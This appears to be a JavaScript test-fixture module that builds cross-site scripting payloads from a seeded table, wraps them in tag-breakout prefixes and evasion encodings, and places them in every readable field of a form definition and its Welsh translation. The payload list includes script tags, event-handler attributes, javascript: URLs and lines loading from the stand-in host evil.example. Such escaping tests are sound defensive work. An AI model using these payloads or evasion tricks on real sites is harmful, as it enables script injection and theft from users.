// Texts that become script where a page forgets to escape one, made from a table by a seed.

const DEEDS = [
  "<script>alert(1)</script>",
  "<script src=//evil.example></script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  "<a href=javascript:alert(1)>x</a>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<math><mtext><script>alert(1)</script></math>",
  "<form action=javascript:alert(1)><button>x",
  "<object data=javascript:alert(1)>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<base href=//evil.example>",
  "<style>@import'//evil.example'</style>",
  "<link rel=stylesheet href=//evil.example>",
  " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
  "<!--<script>alert(1)//-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<javascript:alert(1)>",
  "[x](javascript:alert(1))",
  "![x](javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "${alert(1)} { {constructor.constructor('alert(1)')()}}",
];
const WAYS_OUT = ["", '">', "'>", '"', "'", "</title>", "</textarea>", "</script>", "</style>", "-->", "</option></select>", "</p></div></main>", "]]>", "`>"];
const DISGUISES = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join(""),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replace(/>$/, " "),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replace(/[<>"']/g, (letter) => `&#${letter.charCodeAt(0)}`),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replace(/[<>]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
  (text) => text.replaceAll("script", "scr\u200bipt").replaceAll("<", "<\u202e<"),
];

/** A small generator of chance (mulberry32): the same numbers for the same seed everywhere. */
function chance(seed) {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % below;
  };
}

/** Different texts; every deed as it is comes first. */
export function payloads(number, seed = 1) {
  const below = chance(seed);
  const made = new Set(DEEDS);
  while (made.size < number) made.add(DISGUISES[below(DISGUISES.length)](WAYS_OUT[below(WAYS_OUT.length)] + DEEDS[below(DEEDS.length)]));
  return [...made];
}

// What is read by people, by its key, wherever it stands in a definition.
const TEXTS = ["title", "text", "hint", "label", "message", "pattern_message", "unit", "item_name", "organisation", "purpose", "contact", "notice", "section", "changed_because"];

// What hides a question, changes an order or the way, or refuses what is typed or who comes.
const LEFT_OUT = ["access", "overview", "lost_rule", "order", "order_group", "withdrawn", "$schema", "pattern", "pattern_message", "population", "weighting"];

/** A definition with `text` in place of every text, and in another language too. */
export function inEveryText(definition, id, text) {
  const keys = [];
  const fill = (value, key) => {
    if (typeof value === "string") return TEXTS.includes(key) ? (keys.push(key), text) : value;
    if (Array.isArray(value)) return value.map((part) => fill(part, key === "exceptions" ? "text" : undefined));
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, fill(part, name)]));
  };
  // Only what is shown, to all, in an order that does not change.
  const { translations, checks, ...kept } = JSON.parse(
    JSON.stringify(definition, (key, value) => (LEFT_OUT.includes(key) || (key === "show_if" && value.includes("role")) ? undefined : value)),
  );
  const whole = { ...kept, id, checks: checks.filter((check) => check.rule) };
  whole.window.opens = "2020-01-01T00:00";
  whole.window.closes = "2099-01-01T00:00";
  const visit = (value) => {
    if (Array.isArray(value)) value.forEach(visit);
    else if (typeof value === "object" && value !== null) {
      if (value.max_chars) value.max_chars = 2000;
      Object.values(value).forEach(visit);
    }
  };
  visit(whole);
  const made = fill(whole);
  const cy = {};
  for (const key of ["title", "introduction.organisation", "introduction.purpose", "introduction.contact", "privacy.notice", "accessibility.contact", "accessibility.exceptions.1", "interventions.trees", "calculated.ways", "checks.1"]) cy[key] = { text };
  for (const page of made.pages) {
    if (page.title) cy[`${page.id}.title`] = { text };
    if (page.text) cy[`${page.id}.body`] = { text };
    for (const question of page.questions ?? []) cy[`${question.id}.text`] = { text };
  }
  return { definition: { ...made, translations: { cy } }, number: keys.length };
}
